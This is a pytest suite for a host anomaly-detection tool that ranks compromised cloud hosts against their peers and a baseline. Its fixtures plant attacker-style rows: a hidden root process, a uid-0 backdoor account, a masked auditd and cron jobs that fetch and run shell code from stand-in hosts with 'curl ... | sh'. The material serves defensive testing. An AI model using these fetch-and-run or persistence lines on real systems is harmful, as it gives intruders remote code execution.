"""What does the report say of whole groups: who stands out, why, and what cannot be claimed?"""

from __future__ import annotations

from dataclasses import replace
from datetime import timedelta

import pytest

from bot.analysis import Case, judge
from bot.masking import MASK
from bot.model import (
    Answer,
    Change,
    Finding,
    Host,
    HostStatus,
    Method,
    Missed,
    MissReason,
    Quadrant,
    QueryStatus,
    Report,
    Snapshot,
)
from tests.analysis.cases import NOW, PACK, Rows, case, honest

Hosts = list[tuple[Host, Rows]]
EVIL = {"name": "upd", "path": "/var/tmp/.x/upd", "cmdline": "/var/tmp/.x/upd -q", "username": "root", "on_disk": "1", "pid": "4242"}  # fmt: skip


def compromise(hosts: Hosts, index: int = 0) -> str:
    """Run a hidden program on one host; return its id."""
    hosts[index][1]["processes"].append(dict(EVIL))
    return hosts[index][0].id


def only(report: Report, query: str) -> Finding:
    """Return the one finding of a query."""
    found = [finding for finding in report.findings if finding.query == query]
    assert len(found) == 1, [f.why for f in found]
    return found[0]


def without(given: Case, host: str, query: str, status: QueryStatus) -> Case:
    """Return the case in which one host does not know the answer to one query."""

    def change(snapshot: Snapshot) -> Snapshot:
        if snapshot.host.id != host:
            return snapshot
        answers = tuple(
            replace(
                a, status=status, rows=a.rows if status is QueryStatus.TOO_MANY else (), error="no such table"
            )
            if a.query == query
            else a
            for a in snapshot.answers
        )
        return replace(snapshot, answers=answers)

    return replace(given, snapshots=tuple(change(s) for s in given.snapshots))


@pytest.mark.parametrize("count", [3, 5, 10, 24])
@pytest.mark.parametrize("snapshots", [0, 1, 5])
def test_a_compromised_host_comes_first_with_its_row_as_collected(count: int, snapshots: int) -> None:
    """The planted row is shown as the host said it, with the pid that is never compared."""
    hosts = honest(count, deployed=count // 3)
    victim = compromise(hosts)

    report = judge(case(hosts, baseline=honest(snapshots, 9, first=300)))

    assert report.hosts[0].id == victim
    assert [host.id for host in report.outliers] == [victim]
    finding = only(report, "processes")
    assert finding.row == EVIL
    assert finding.hosts == (victim,)
    assert (finding.seen_on, finding.of) == (0, count - 1)
    assert (finding.baseline_seen, finding.baseline_of) == ((0, snapshots) if snapshots else (None, None))
    assert report.hosts[0].reason == finding.why


def test_the_reason_is_one_line_that_needs_no_glossary() -> None:
    """A tired person reads what runs where, and on how many others."""
    hosts = honest(24)
    compromise(hosts)

    finding = only(judge(case(hosts, baseline=honest(5, 9, first=300))), "processes")

    assert finding.why == (
        "runs “/var/tmp/.x/upd -q” as root: it runs from a folder that everybody may write to and lies in a hidden "
        "place; none of the other 23 hosts has it; not in the baseline"
    )
    assert finding.quadrant is Quadrant.NEW_RARE
    assert finding.outlying
    assert [part.label for part in finding.parts[:2]] == [
        "on only 1 of 24 hosts",
        "new: in none of 5 baseline snapshots (half of 3.6)",
    ]


@pytest.mark.parametrize("count", [2, 3, 5, 24])
@pytest.mark.parametrize("method", [Method.PEERS, Method.BOTH, Method.BASELINE])
def test_a_clean_group_with_honest_noise_marks_nobody(count: int, method: Method) -> None:
    """Own addresses, host keys, boot ids, pids, random ports and a rolling deploy are no findings."""
    base = honest(3, 9, first=300) if method is not Method.PEERS else []

    report = judge(case(honest(count, 4, deployed=count // 3), baseline=base, method=method))

    assert report.outliers == ()
    assert max(len(report.of_host(host.id)) for host in report.hosts) <= 3


def test_a_rolling_deploy_is_told_once_and_held_against_nobody() -> None:
    """What exactly the hosts of one template version share is that version's."""
    report = judge(case(honest(12, deployed=5), baseline=honest(5, 9, first=300)))

    assert report.findings == ()
    assert any("template 13" in note or "follow the hosts'" in note for note in report.notes)
    assert [(each.label, len(each.hosts)) for each in report.lookalikes] == [
        ("template 12", 7),
        ("template 13", 5),
    ]


def test_one_host_against_a_baseline_of_one_lists_each_new_security_fact_as_tentative() -> None:
    """The original case: few bits, but nothing planted may be missing."""
    hosts = honest(1)
    rows = hosts[0][1]
    compromise(hosts)
    rows["crontab"].append({"command": "root /var/tmp/.x/upd", "path": "/etc/cron.d/apt-news"})
    rows["users"].append({"username": "toor", "uid": "0", "shell": "/bin/bash"})
    rows["kernel_controls"][0] = {"name": "kernel.tainted", "current_value": "12288"}
    rows["systemd_units"][1] = {"id": "auditd.service", "load_state": "masked", "unit_file_state": "masked"}

    report = judge(case(hosts, baseline=honest(1, 9, first=300)))

    assert {f.query for f in report.findings} >= {
        "processes", "crontab", "users", "kernel_controls", "systemd_units"
    }  # fmt: skip
    assert all(finding.tentative for finding in report.findings)
    assert report.limits.most_bits == 2.0
    assert (report.limits.peers, report.limits.baseline, report.limits.tentative) == (0, 1, True)
    assert any("One host against a baseline of 1 snapshot" in note for note in report.notes)


def test_of_two_hosts_nobody_is_named() -> None:
    """Where two differ, either may be the odd one; both sides are shown."""
    hosts = honest(2)
    compromise(hosts)

    report = judge(case(hosts))

    assert report.outliers == ()
    assert EVIL in [dict(finding.row) for finding in report.findings]
    assert any("which of them is the odd one cannot be said" in note for note in report.notes)


def test_three_hosts_give_a_tentative_verdict() -> None:
    """Chance alone names one of three."""
    hosts = honest(3)
    victim = compromise(hosts)

    report = judge(case(hosts))

    assert [host.id for host in report.outliers] == [victim]
    assert report.limits.tentative
    assert report.limits.most_bits == pytest.approx(2.58, abs=0.01)


@pytest.mark.parametrize("count", [0, 1])
def test_nothing_to_compare_with_is_said(count: int) -> None:
    """No host, or one without a baseline: no findings, and a sentence."""
    report = judge(case(honest(count)))

    assert report.findings == ()
    assert report.limits.most_bits == 0.0
    assert any("nothing can be" in note for note in report.notes)


def test_an_absence_is_a_fact_where_the_query_was_answered() -> None:
    """The guard that all others run is missing here: the expected row is shown."""
    hosts = honest(10)
    rows = hosts[3][1]
    rows["systemd_units"] = [row for row in rows["systemd_units"] if row["id"] != "auditd.service"]

    finding = only(judge(case(hosts)), "systemd_units")

    assert finding.change is Change.REMOVED
    assert finding.hosts == (hosts[3][0].id,)
    assert finding.row["id"] == "auditd.service"
    assert finding.expected is None
    assert "the other 9 hosts all have it" in finding.why


@pytest.mark.parametrize(
    "status", [QueryStatus.ERROR, QueryStatus.TIMED_OUT, QueryStatus.DID_NOT_FIT, QueryStatus.NOT_RUN]
)
def test_a_query_that_failed_is_unknown_not_empty(status: QueryStatus) -> None:
    """A host that could not say lacks nothing, and is left out of the counts of others."""
    hosts = honest(10)
    victim = compromise(hosts)
    given = without(case(hosts), hosts[5][0].id, "processes", status)

    report = judge(given)

    assert report.of_host(hosts[5][0].id) == ()
    assert only(report, "processes").of == 8
    assert report.hosts[0].id == victim
    assert report.coverage.partial == 1
    assert [(u.host, u.query, u.status) for u in report.coverage.unknown] == [
        (hosts[5][0].id, "processes", status)
    ]
    assert next(h for h in report.hosts if h.id == hosts[5][0].id).status is HostStatus.PARTIAL


def test_a_cut_answer_counts_for_what_is_there_and_not_for_what_is_missing() -> None:
    """With too many rows the rows kept are a part: presence counts, absence does not."""
    hosts = honest(10)
    compromise(hosts, 2)
    hosts[2][1]["processes"] = hosts[2][1]["processes"][-1:]
    given = without(case(hosts), hosts[2][0].id, "processes", QueryStatus.TOO_MANY)

    finding = only(judge(given), "processes")

    assert finding.row == EVIL
    assert finding.change is Change.ADDED


def test_a_quiet_fact_in_a_noisy_table_is_not_buried() -> None:
    """Each host has a boot id of its own in the same table; the one taint flag still stands out."""
    hosts = honest(24)
    hosts[7][1]["kernel_controls"][0] = {"name": "kernel.tainted", "current_value": "4096"}

    finding = only(judge(case(hosts)), "kernel_controls")

    assert finding.row == {"name": "kernel.tainted", "current_value": "4096"}
    assert finding.expected == {"name": "kernel.tainted", "current_value": "0"}
    assert finding.change is Change.CHANGED
    assert finding.outlying


def test_a_mode_that_changed_shows_although_the_digest_beside_it_differs_everywhere() -> None:
    """What varies by nature is left out place by place, not row by row."""
    hosts = honest(10)
    hosts[4][1]["auth_config_files"][2]["mode"] = "0666"

    finding = only(judge(case(hosts)), "auth_config_files")

    assert finding.row["path"] == "/etc/ssh/ssh_host_ed25519_key"
    assert finding.row["mode"] == "0666"
    assert len(finding.row["sha256"]) == 64


def test_a_compromised_majority_is_named_as_such_when_a_baseline_knows_better() -> None:
    """Seven of ten share what the baseline lacks: they are ranked above the clean three."""
    hosts = honest(10)
    bad = {compromise(hosts, index) for index in range(7)}

    report = judge(case(hosts, baseline=honest(5, 9, first=300)))

    finding = only(report, "processes")
    assert set(finding.hosts) == bad
    assert finding.quadrant is Quadrant.NEW_COMMON
    assert {host.id for host in report.hosts[:7]} == bad
    assert any("Most of the group changed: 7 of 10 hosts" in note for note in report.notes)
    assert any("not blamed" in note for note in report.notes)


def test_a_split_that_nothing_in_aws_explains_is_one_finding_a_fact() -> None:
    """Three of twelve hosts, in all zones, share the same hidden program."""
    hosts = honest(12)
    bad = tuple(sorted(compromise(hosts, index) for index in (1, 5, 6)))

    report = judge(case(hosts))

    finding = only(report, "processes")
    assert finding.hosts == bad
    assert (finding.seen_on, finding.of) == (0, 9)
    assert {host.id for host in report.outliers} == set(bad)
    assert len(finding.rows) == 0


@pytest.mark.parametrize("count", [3, 4, 5, 10, 24])
@pytest.mark.parametrize("snapshots", [1, 5])
def test_one_quiet_row_on_most_hosts_is_named_and_the_clean_ones_are_not_blamed(
    count: int, snapshots: int
) -> None:
    """A kernel setting that says little by itself: the summary names the change, and a finding shows it."""
    hosts = honest(count, deployed=count // 4)
    bad = range(round(0.7 * count))
    for index in bad:
        hosts[index][1]["kernel_controls"].append({"name": "net.ipv4.tcp_sack", "current_value": "0"})

    report = judge(case(hosts, baseline=honest(snapshots, 9, first=300)))

    finding = only(report, "kernel_controls")
    assert set(finding.hosts) == {hosts[index][0].id for index in bad}
    assert finding.quadrant is Quadrant.NEW_COMMON
    assert report.outliers == ()
    assert any(
        note.startswith("Most of the group changed") and "kernel_controls" in note for note in report.notes
    )


def test_an_honest_change_of_all_does_not_cover_that_of_most() -> None:
    """All ten have a new service; seven also run something hidden: the summary names the sharper one first."""
    hosts = honest(10)
    for index, (_, rows) in enumerate(hosts):
        rows["systemd_units"].append({"id": "tz-update.service", "load_state": "loaded"})
        if index < 7:
            compromise(hosts, index)

    report = judge(case(hosts, baseline=honest(5, 9, first=300)))

    first, second, *_ = report.notes
    assert (
        "Most of the group changed: 7 of 10 hosts share 1 difference from the baseline, such as in processes"
        in first
    )
    assert (
        "Most of the group changed: 10 of 10 hosts share 1 difference from the baseline, such as in systemd_units"
        in second
    )


def test_an_upgrade_of_most_of_a_group_is_told_as_one() -> None:
    """Packages that changed on the same hosts are why more waits for connections; a job that came along needs another look."""
    hosts = honest(10)
    for _, rows in hosts[:7]:
        rows["deb_packages"].append({"name": "tzdata", "version": "2026b"})
        rows["listening_ports"].append(
            {"port": "8125", "address": "127.0.0.1", "process_path": "/usr/sbin/tzd"}
        )
    with_service = honest(10)
    for index, (_, rows) in enumerate(with_service[:7]):
        rows.update({name: list(hosts[index][1][name]) for name in ("deb_packages", "listening_ports")})
        rows["crontab"].append({"command": "/usr/bin/tzd", "path": "/etc/cron.d/tz"})

    upgrade, more = (judge(case(group, baseline=honest(5, 9, first=300))) for group in (hosts, with_service))

    assert "Packages changed with it (tzdata): it looks like an upgrade" in upgrade.notes[0]
    assert "or most hosts are compromised" in more.notes[0]


def test_a_majority_that_shows_variants_of_one_thing_is_named() -> None:
    """Seven of ten have the job of one intruder, each under one of three names: no row is on most hosts, what they do is."""
    hosts = honest(10)
    for index, (_, rows) in enumerate(hosts[:7]):
        command = f"{('app', 'web', 'root')[index % 3]} curl http://192.0.2.9/x | sh"
        rows["crontab"].append({"command": command, "path": "/etc/cron.d/x"})

    report = judge(case(hosts, baseline=honest(5, 9, first=300)))

    assert report.notes[0].startswith(
        "Most of the group changed: 7 of 10 hosts have one of 3 variants of what the baseline does not know, in crontab"
    )


def test_what_says_little_is_no_change_of_the_group() -> None:
    """Most hosts talk to other neighbours than those of the baseline: counted in one sentence, no finding, no alarm."""
    hosts = honest(10)
    for _, rows in hosts[:7]:
        rows["deb_packages"].append({"name": "tzdata", "version": "2026b"})

    report = judge(case(hosts, baseline=honest(5, 9, first=300)))

    assert report.findings == ()
    assert report.notes[0].startswith("1 more difference from the baseline that most hosts share")


@pytest.mark.parametrize("count", [3, 5, 10, 24])
def test_without_a_baseline_a_compromised_majority_is_shown_and_nobody_is_marked(count: int) -> None:
    """Counting blames the clean ones; what the rows of the others say by themselves does not."""
    hosts = honest(count)
    bad = {compromise(hosts, index) for index in range(round(0.7 * count))}
    for index in range(len(bad)):
        hosts[index][1]["crontab"].append({"command": "root /var/tmp/.x/upd", "path": "/etc/cron.d/apt-news"})

    report = judge(case(hosts))

    assert set(report.findings[0].hosts) == bad
    assert report.findings[0].shared_count == 2
    assert report.outliers == ()
    assert {host.id for host in report.hosts[: len(bad)]} == bad
    assert any("nobody can say which side changed" in note for note in report.notes)


def test_a_split_of_quiet_facts_is_told_of_the_side_that_has_more() -> None:
    """Seven of ten have an account that three lack, without a baseline: an account more says more than one less."""
    hosts = honest(10)
    for index in range(7):
        hosts[index][1]["users"].append({"username": "ops2", "uid": "1002", "shell": "/bin/bash"})

    report = judge(case(hosts))

    finding = only(report, "users")
    assert len(finding.hosts) == 7
    assert "nobody can say which side changed" in finding.why
    assert report.outliers == ()


def test_a_split_in_what_decides_about_logins_is_told_without_blaming_either_side() -> None:
    """Seven of ten have another configuration of sshd: both sides have one, so neither row says more than the other."""
    hosts = honest(10)
    for _, rows in hosts[:7]:
        rows["auth_config_files"] = [
            {**row, "sha256": "f" * 64} if row["path"] == "/etc/ssh/sshd_config" else row
            for row in rows["auth_config_files"]
        ]

    report = judge(case(hosts))

    assert report.notes[0].startswith(
        "The group is split: 3 of 10 hosts differ from the other 7 of 10 hosts in 1 fact"
    )
    assert report.outliers == ()


def test_where_a_slot_has_many_values_none_is_the_larger_side() -> None:
    """A third of the hosts lack an account that the others have with four shells: five hosts with one are no majority."""
    hosts = honest(30)
    for index, (_, rows) in enumerate(hosts[:20]):
        rows["users"].append({"username": "ops2", "uid": "1002", "shell": f"/bin/{'abcd'[index // 5]}sh"})

    report = judge(case(hosts))

    assert not any("nobody can say which side changed" in finding.why for finding in report.findings)
    assert not any(note.startswith("The group is split") for note in report.notes)


def test_a_split_in_which_a_row_also_stands_in_for_another_is_told() -> None:
    """Two of six run nginx with another option and the usual of it no longer; the other four run something hidden."""
    hosts = honest(6)
    for index in range(4):
        compromise(hosts, index)
    for index in (4, 5):
        for row in hosts[index][1]["processes"]:
            if row["path"] == "/usr/sbin/nginx":
                row["cmdline"] += " -g daemon"

    report = judge(case(hosts))

    assert len(report.findings[0].hosts) == 4
    assert report.findings[0].row["path"] == EVIL["path"]


def test_an_exception_is_no_side() -> None:
    """One of twelve lacks what the others run, odd as it looks: that is said of the one host."""
    hosts = honest(12)
    for index in range(11):
        compromise(hosts, index)

    report = judge(case(hosts))

    assert all(finding.hosts == (hosts[11][0].id,) for finding in report.findings)


def test_what_several_hosts_share_without_a_reason_in_aws_is_one_finding() -> None:
    """Four of thirty agree in four facts: one line with all of them, not sixteen."""
    hosts = honest(30)
    bad = tuple(sorted(compromise(hosts, index) for index in (1, 5, 6, 8)))
    for index in (1, 5, 6, 8):
        rows = hosts[index][1]
        rows["crontab"].append({"command": "root /var/tmp/.x/upd", "path": "/etc/cron.d/apt-news"})
        rows["listening_ports"].append({"port": "4444", "address": "0.0.0.0", "process_path": EVIL["path"]})
        rows["kernel_controls"][1] = {"name": "kernel.randomize_va_space", "current_value": "0"}

    report = judge(case(hosts))

    (finding,) = report.findings
    assert finding.hosts == bad
    assert finding.shared_count == 4
    assert {finding.query, *(fact.query for fact in finding.shared)} == {
        "processes", "crontab", "listening_ports", "kernel_controls"
    }  # fmt: skip
    assert {fact.query: fact.expected for fact in finding.shared}["kernel_controls"] == {
        "name": "kernel.randomize_va_space", "current_value": "2"
    }  # fmt: skip
    assert finding.why.startswith(
        "4 of 30 hosts share these 4 facts, which nothing in AWS explains; the sharpest: "
    )
    assert "several hosts at once, which is likely one event" in {part.label for part in finding.parts}
    assert [host.id for host in report.outliers] == sorted(bad)
    assert not any("4 of 30 hosts share" in note for note in report.notes)  # what stands out says it itself


def test_a_host_that_cannot_answer_a_query_still_shares_the_rest() -> None:
    """What is unknown on one of the hosts does not part their story."""
    hosts = honest(12)
    for index in (1, 5, 6):
        compromise(hosts, index)
        hosts[index][1]["crontab"].append({"command": "root /var/tmp/.x/upd", "path": "/etc/cron.d/apt-news"})
    given = without(case(hosts), hosts[5][0].id, "crontab", QueryStatus.ERROR)

    (finding,) = judge(given).findings

    assert len(finding.hosts) == 3
    assert finding.shared_count == 2


def test_a_lone_hosts_facts_stay_findings_of_their_own() -> None:
    """One host with two facts: two lines, each with its own reason."""
    hosts = honest(12)
    compromise(hosts, 3)
    hosts[3][1]["crontab"].append({"command": "root /var/tmp/.x/upd", "path": "/etc/cron.d/apt-news"})

    findings = judge(case(hosts)).findings

    assert {finding.query for finding in findings} == {"processes", "crontab"}
    assert all(finding.shared == () and finding.shared_count == 0 for finding in findings)


def test_a_baseline_older_than_the_image_says_so() -> None:
    """No host runs what the baseline was taken from."""
    hosts = [(replace(about, image_id="ami-2", template_version="13"), rows) for about, rows in honest(6)]

    report = judge(case(hosts, baseline=honest(3, 9, first=300)))

    assert any("older than the group's image" in note for note in report.notes)


def test_hosts_launched_after_the_baseline_are_mentioned() -> None:
    """Every host is younger than what it is compared with."""
    hosts = [(replace(about, launch_time=NOW - timedelta(hours=2)), rows) for about, rows in honest(4)]

    report = judge(case(hosts, baseline=honest(3, 9, first=300)))

    assert any("launched after the baseline" in note for note in report.notes)


def test_the_named_host_comes_first_whatever_its_rank() -> None:
    """Somebody asked about this host; its place among the others is still told."""
    hosts = honest(8)
    victim = compromise(hosts, 3)
    focus = hosts[6][0].id

    report = judge(case(hosts, focus=focus))

    assert [host.id for host in report.hosts[:2]] == [focus, victim]
    assert report.hosts[0].rank > report.hosts[1].rank == 1


def test_missed_hosts_come_last_and_are_counted() -> None:
    """Who did not answer has no rank, and the sum is right."""
    missed = (Missed("i-gone", MissReason.OFFLINE),)

    report = judge(case(honest(5), missed=missed))

    assert report.hosts[-1].id == "i-gone"
    assert report.hosts[-1].rank == 0
    assert report.hosts[-1].status is HostStatus.MISSED
    assert (report.coverage.targeted, report.coverage.answered, report.coverage.partial) == (6, 5, 0)


def test_a_host_on_another_osquery_version_is_no_outlier_for_it() -> None:
    """An older osquery lacks a column; the rows that agree in all others are the same."""
    hosts = honest(8)
    given = case(hosts)

    def older(snapshot: Snapshot) -> Snapshot:
        answers = tuple(
            replace(a, rows=tuple({k: v for k, v in row.items() if k != "unit_file_state"} for row in a.rows))
            for a in snapshot.answers
        )
        return replace(snapshot, answers=answers, osquery_version="5.0.1")

    snapshots = tuple(older(s) if s.host.id == hosts[2][0].id else s for s in given.snapshots)

    report = judge(replace(given, snapshots=snapshots))

    assert report.findings == ()
    assert any("5.0.1 on 1" in note for note in report.notes)


def test_secrets_are_masked_in_rows_and_reasons() -> None:
    """What leaves the program shows no secret; the rest of the row stays as collected."""
    secret = "Zq7" + "x9Kp" * 3
    hosts = honest(6)
    hosts[1][1]["crontab"].append(
        {"command": f"root mysqldump --password={secret} shop", "path": "/etc/cron.d/dump"}
    )

    finding = only(judge(case(hosts)), "crontab")

    assert finding.row == {"command": f"root mysqldump --password={MASK} shop", "path": "/etc/cron.d/dump"}
    assert secret not in finding.why


def test_own_identifiers_in_a_row_are_shown_as_the_host_said_them() -> None:
    """What was replaced for comparing is never shown as if the host had said it."""
    hosts = honest(6)
    about, rows = hosts[2]
    command = f"root curl http://203.0.113.9/?h={about.private_ip} | sh"
    rows["crontab"].append({"command": command, "path": "/etc/cron.d/x"})

    assert only(judge(case(hosts)), "crontab").row["command"] == command


def test_a_list_of_all_members_on_every_host_is_no_difference() -> None:
    """Each host's own address in it is replaced only where the row is that host's alone."""
    hosts = honest(6)
    everyone = " ".join(about.private_ip for about, _ in hosts)
    for _, rows in hosts:
        rows["crontab"].append(
            {"command": f"root /usr/local/bin/ring {everyone}", "path": "/etc/cron.d/ring"}
        )

    assert judge(case(hosts)).findings == ()


def test_only_the_newest_snapshot_of_a_host_counts() -> None:
    """A host that was asked twice is one host."""
    hosts = honest(5)
    given = case(hosts)
    old = replace(
        given.snapshots[0], taken_at=NOW - timedelta(days=1), answers=(Answer("crontab", QueryStatus.EMPTY),)
    )

    assert judge(replace(given, snapshots=(old, *given.snapshots))) == judge(given)


def test_the_method_peers_ignores_a_baseline() -> None:
    """Asked for peers, the report claims nothing about a baseline."""
    hosts = honest(6)
    compromise(hosts)

    report = judge(case(hosts, baseline=honest(3, 9, first=300), method=Method.PEERS))

    assert report.baseline is None
    assert only(report, "processes").baseline_of is None


def test_the_method_baseline_ignores_rarity_among_the_hosts() -> None:
    """Known to the baseline is silent, however rare it is now."""
    hosts = honest(6)
    known = honest(3, 9, first=300)
    for _, rows in [hosts[0], *known]:
        rows["crontab"].append({"command": "root /opt/known", "path": "/etc/cron.d/known"})
    compromise(hosts, 2)

    report = judge(case(hosts, baseline=known, method=Method.BASELINE))

    assert {finding.query for finding in report.findings if finding.change is Change.ADDED} == {"processes"}


def test_a_pack_without_keys_still_finds_what_is_new() -> None:
    """An unknown query with nothing but SQL: the whole row is the fact."""
    bare = replace(
        PACK, queries=tuple(replace(q, key=(), ignore=(), attack=(), telling=3) for q in PACK.queries)
    )
    hosts = honest(8)
    victim = compromise(hosts)

    report = judge(case(hosts, pack=bare))

    assert report.hosts[0].id == victim
    assert EVIL in [dict(finding.row) for finding in report.findings]
